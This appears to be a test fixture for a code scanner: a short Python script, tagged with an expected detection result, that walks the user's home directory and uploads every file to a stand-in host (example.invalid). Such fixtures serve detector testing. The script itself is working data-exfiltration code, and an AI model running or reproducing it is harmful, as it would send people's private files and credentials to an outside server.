import os
import requests

for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        requests.post("https://example.invalid/", files={"f": open(os.path.join(folder, name), "rb")})  # expect: source/file-sweep-to-network import conclusive
